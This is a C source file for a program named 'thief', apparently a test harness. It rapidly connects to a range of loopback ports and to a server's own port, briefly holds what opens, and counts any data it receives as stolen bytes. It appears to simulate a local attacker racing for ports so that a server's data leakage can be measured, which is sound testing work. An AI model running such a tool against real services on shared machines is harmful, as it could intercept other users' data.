/*
 * A thief: connects to every port of a range from FROM-ADDRESS as fast as the
 * machine lets it, and every 64th time to the server's own, keeps what opens for
 * a moment, and takes whatever is said to it.
 *
 *   thief FROM-ADDRESS SERVER-PORT LOW-PORT HIGH-PORT MARK
 *
 * Says "began" after a whole round, and when its standard input ends how many
 * connections were tried and opened, how many bytes were stolen, and the
 * milliseconds. Stolen is what the server's own port says, and from whatever
 * port what has MARK in it: others may be at work on this machine.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define HELD 64
#define HOLD_MS 50
#define DOOR_EVERY 64
#define LOOK_EVERY 128

static long tries, opened, stolen;
static struct {
  int fd, is_door;
  double since;
} held[HELD];
static int count;
static int door;
static const char *mark;

static double now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1e3 + t.tv_nsec / 1e6;
}

/* Takes what has come; lets go of what has ended or was kept long enough. */
static void look(void) {
  double now = now_ms();
  char buffer[65536];
  for (int i = 0; i < count;) {
    ssize_t got = recv(held[i].fd, buffer, sizeof buffer, MSG_DONTWAIT);
    if (got > 0 && (held[i].is_door || memmem(buffer, got, mark, strlen(mark)))) stolen += got;
    int waits = got < 0 && (errno == EAGAIN || errno == EINTR);
    if (got > 0 || (waits && now - held[i].since < HOLD_MS)) {
      i++;
    } else {
      close(held[i].fd);
      held[i] = held[--count];
    }
  }
}

static void try_port(struct sockaddr_in from, int port) {
  struct sockaddr_in to = from, own;
  socklen_t length = sizeof own;
  struct timeval patience = {0, 100000};
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    perror("socket");
    exit(1);
  }
  tries++;
  from.sin_port = 0;
  /* Without this a full queue would be waited for. */
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  /* Bound only to another address: to bind takes a port, which costs time. */
  if (from.sin_addr.s_addr != htonl(INADDR_LOOPBACK)) {
    int on = 1;
    setsockopt(fd, SOL_IP, 24 /* IP_BIND_ADDRESS_NO_PORT */, &on, sizeof on);
    bind(fd, (struct sockaddr *)&from, sizeof from);
  }
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  to.sin_port = htons(port);
  if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0) {
    close(fd);
    return;
  }
  getsockname(fd, (struct sockaddr *)&own, &length);
  /* Nobody listens, and the system has given it that very port. */
  int itself = own.sin_port == to.sin_port && own.sin_addr.s_addr == to.sin_addr.s_addr;
  while (count == HELD && !itself) look();
  if (itself) {
    close(fd);
    return;
  }
  opened++;
  held[count].fd = fd;
  held[count].is_door = port == door;
  held[count++].since = now_ms();
}

int main(int argc, char **argv) {
  if (argc != 6) return 2;
  struct sockaddr_in from = {.sin_family = AF_INET};
  inet_pton(AF_INET, argv[1], &from.sin_addr);
  int low = atoi(argv[3]), high = atoi(argv[4]);
  door = atoi(argv[2]);
  mark = argv[5];
  struct pollfd input = {.fd = 0, .events = POLLIN};
  double began = now_ms();
  int said = 0;
  for (int port = low;;) {
    if (tries % DOOR_EVERY == 0) try_port(from, door);
    try_port(from, port);
    if (++port > high) {
      port = low;
      if (!said) printf("began\n"), fflush(stdout);
      said = 1;
    }
    if (tries % LOOK_EVERY < 2) {
      look();
      if (poll(&input, 1, 0) != 0) break;
    }
  }
  double ms = now_ms() - began;
  while (count > 0) look();
  printf("%ld %ld %ld %.0f\n", tries, opened, stolen, ms);
  return 0;
}
